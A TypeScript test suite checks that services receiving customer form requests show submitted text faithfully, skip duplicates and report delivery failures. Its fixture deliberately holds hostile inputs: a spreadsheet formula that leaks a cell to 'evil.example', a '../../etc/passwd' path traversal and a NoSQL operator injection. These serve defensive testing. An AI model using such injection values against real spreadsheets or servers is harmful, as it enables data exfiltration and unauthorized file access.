import { deepEqual, equal, ok } from 'node:assert/strict';
import type { BusinessRequest, Delivered, Sink } from '../core/kinds/sink.ts';
import { live } from './aborting.ts';
import { register, type Check, type Register } from './register.ts';
import { serviceRejection } from './rejection.ts';
import { troubleChecks, type ServiceOptions } from './service/trouble-checks.ts';
import { vendorOf, type Served } from './service/vendor.ts';

/** A request as it lies in the service. */
export interface ArrivedRequest {
  /** Our id, by which a repeat is known. */
  id: string;
  /** All that a person sees of it, as plain text. */
  shown: string;
}

/** A sink and the service behind it. */
export interface OpenedSink extends Served {
  sink: Sink;
  /** What lies there now, in order; of a sink that cannot be asked, one entry for each time. */
  arrived(): Promise<ArrivedRequest[]> | ArrivedRequest[];
}

/** Makes the sink under test, its own for each call, before a service that is empty. */
export type OpenSink = () => Promise<OpenedSink>;

const said = ['Айгерим Серикова', '=HYPERLINK("https://evil.example/?"&A1)', '+7 700 123-45-67'];
const [name = '', formula = '', typed = ''] = said;

/** Looks like what customers leave: with what runs elsewhere, and in several alphabets. */
const request: BusinessRequest = {
  id: 'wb_0123456789abcdefghij',
  number: 17,
  at: 1_796_000_000_000,
  phone: '+77010000000',
  name: 'Aigerim',
  fields: [
    { name: 'name', label: 'Имя', value: name },
    { name: 'phone', label: 'Телефон', value: typed, said: true },
    { name: 'what', label: 'Что нужно', value: formula },
    {
      name: 'comment',
      label: 'Комментарий',
      value: '<b>5 < 6 & 7</b>\n../../etc/passwd {"$gt":""}',
    },
  ],
};

const other: BusinessRequest = { ...request, id: 'wb_jihgfedcba9876543210', number: 18 };

function deliver({ sink }: OpenedSink, signal = live(), before?: Delivered): Promise<Delivered> {
  return sink.deliver(request, signal, before);
}

const basics: Record<string, Check<OpenedSink>> = {
  async 'brings what was left, as it was typed'(place) {
    await deliver(place);
    const [first, ...others] = await place.arrived();
    equal(others.length, 0, 'it is there once');
    equal(first?.id, request.id);
    for (const { value } of request.fields)
      ok(first?.shown.includes(value), `it should show: ${value}`);
    ok(first?.shown.includes('77010000000'), 'it should show the number of the chat');
  },
  async 'brings requests beside each other'(place) {
    await deliver(place);
    await place.sink.deliver(other, live());
    deepEqual(
      (await place.arrived()).map(({ id }) => id),
      [request.id, other.id],
    );
  },
  async 'brings very long texts, from their beginning'(place) {
    const value = 'очень длинно 👋🏽 '.repeat(150);
    const fields = [{ name: 'comment', label: 'Комментарий', value }];
    await place.sink.deliver({ ...request, fields }, live());
    const [first] = await place.arrived();
    ok(first?.shown.includes(value.slice(0, 500)), 'its beginning is there');
    ok(first?.shown.isWellFormed(), 'no character is cut in two');
  },
  async 'finds what it has brought, and nothing else, where it can be asked'(place) {
    const { sink } = place;
    if (!sink.find) return;
    equal(await sink.find(request, live()), undefined, 'nothing is there yet');
    const { ref } = await deliver(place);
    ok(ref !== '', 'it has a name there');
    ok(await sink.find(request, live()), 'it is found');
    equal(await sink.find(other, live()), undefined, 'another one is not');
  },
  async 'brings up to date what it has found, and adds nothing'(place) {
    const { sink } = place;
    if (!sink.find) return;
    await deliver(place);
    await deliver(place, live(), await sink.find(request, live()));
    deepEqual(
      (await place.arrived()).map(({ id }) => id),
      [request.id],
    );
  },
  async 'tells the receiver the same id for every try, where it cannot be asked'(place) {
    if (place.sink.find) return;
    await deliver(place);
    await deliver(place);
    const [first, second] = await place.arrived();
    equal(first?.id, second?.id);
  },
};

const unknown: Record<string, Check<OpenedSink>> = {
  async 'says that it may have arrived when the connection is lost'(place) {
    vendorOf(place).does('lost');
    ok((await serviceRejection(deliver(place))).outcomeUnknown);
  },
  async 'says that it has not arrived when it is refused'(place) {
    for (const trouble of ['busy', 'key', 'refused'] as const) {
      vendorOf(place).does(trouble);
      const { outcomeUnknown } = await serviceRejection(deliver(place));
      equal(outcomeUnknown, false, `when the service is ${trouble}`);
    }
  },
};

/** What every sink of requests must do. Registers one test for each demand with vitest's or node:test's `it`. */
export function sinkSuite(it: Register, open: OpenSink, options: ServiceOptions = {}): void {
  register(it, { ...basics, ...unknown, ...troubleChecks(deliver, said, options) }, open);
}
